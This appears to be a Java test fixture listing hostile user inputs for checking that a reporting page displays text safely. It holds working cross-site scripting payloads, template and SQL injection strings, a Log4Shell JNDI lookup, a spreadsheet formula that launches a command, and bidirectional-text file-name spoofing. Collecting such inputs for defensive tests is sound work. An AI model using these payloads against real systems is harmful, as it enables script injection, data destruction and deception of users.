package hongqiao.attack;

import java.util.List;

/** What people write who mean a page harm, or whose keyboard does. Each fits a report: 2 to 200 characters. */
public final class HostileTexts {

    /** What a script of theirs would leave behind; nothing of ours is called so. */
    public static final String MARK = "hongqiaoWasHere";

    private static final String SCRIPT = "window." + MARK + "=1";

    /** Fifty, none of which a door refuses: they have to be shown as they are. */
    public static final List<String> NASTIEST = List.of(
            "<script>" + SCRIPT + "</script>",
            "<ScRiPt >" + SCRIPT + "</sCrIpT >",
            "</script><script>" + SCRIPT + "</script>",
            "<img src=x onerror=" + SCRIPT + ">",
            "<img/src=`x`/onerror=" + SCRIPT + ">",
            "\"><svg onload=" + SCRIPT + ">",
            "'><svg/onload=" + SCRIPT + "//",
            "</textarea><script>" + SCRIPT + "</script>",
            "</title><script>" + SCRIPT + "</script>",
            "<noscript><p title=\"</noscript><img src=x onerror=" + SCRIPT + ">\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=" + SCRIPT + "></style>",
            "<iframe srcdoc=\"<script>parent." + MARK + "=1</script>\"></iframe>",
            "<iframe src=\"javascript:parent." + MARK + "=1\"></iframe>",
            "<object data=\"data:text/html,<script>" + SCRIPT + "</script>\"></object>",
            "<a href=\"javascript:" + SCRIPT + "\">点这里领奖</a>",
            "javascript:" + SCRIPT,
            "data:text/html,<script>" + SCRIPT + "</script>",
            "<style>*{display:none!important}</style>",
            "<link rel=stylesheet href=//example.invalid/x.css>",
            "<meta http-equiv=refresh content=\"0;url=https://example.invalid/\">",
            "<base href=https://example.invalid/>",
            "<form action=https://example.invalid/><button autofocus onfocus=" + SCRIPT + ">登录</button>",
            "<details open ontoggle=" + SCRIPT + ">",
            "<!-- 没有关上的注释",
            "]]><script>" + SCRIPT + "</script><![CDATA[",
            "&lt;script&gt;" + SCRIPT + "&lt;/script&gt;",
            "\\u003cscript\\u003e" + SCRIPT + "\\u003c/script\\u003e",
            "%3Cscript%3E" + SCRIPT + "%3C/script%3E",
            "＜script＞" + SCRIPT + "＜/script＞",
            "{{constructor.constructor('" + SCRIPT + "')()}}",
            "${" + SCRIPT + "} #{7*7} <%= 7*7 %>",
            "'; drop table cases.case_file; --",
            "${jndi:ldap://example.invalid/a}",
            "=HYPERLINK(\"https://example.invalid/\",\"工资单\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "路灯\u202Eგნიმი\u202E不亮gpj.exe",
            "\u202E了办没直一，了亮不灯路",
            "\u202D\u202E\u202D\u202E一层又一层",
            "\u2067\u2067\u2067井盖松动，没有关上的隔离",
            "مرحبا مصباح الشارع لا يعمل \u200F路灯 12345 מנורה",
            "零\u200B宽\u200C空\u200D白\u2060路\uFEFF灯",
            "行\u2028段\u2029分隔",
            "Z̸̡̢̛͓̦̟̰͍͇̹̮̺̤̟͈̬͚̼͕̞̥̠͙͖͎̲̪̩̜̝̱̖̗̘̙͔͉͌̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔̽̾̿̀́͂̓̈́͆͊͋͌͐͑͒͗͛a̸l̸g̸o̸",
            "﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽",
            "长".repeat(200),
            "W".repeat(200),
            "a\n".repeat(90) + "底",
            "👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿👩🏽‍🚒🇨🇳".repeat(3),
            "\uE000\uF8FF\uFDD0私用区",
            "\t制表\t符\t、<b>粗</b>、&amp;、\"引号\"、`反引号`、\\反斜杠\\");

    /** Such as no document can hold. */
    static final List<String> UNFIT = List.of(
            "\0",
            "路灯\0不亮",
            "\u0001\u0002\u001B[31m红\u001B[0m",
            "删\u007F除",
            "\uD800 half",
            "half \uDC00",
            "\uDC00\uD800",
            "\uFFFE\uFFFF",
            "a".repeat(5_000),
            "长".repeat(100_000),
            " ",
            "");

    private HostileTexts() {}
}
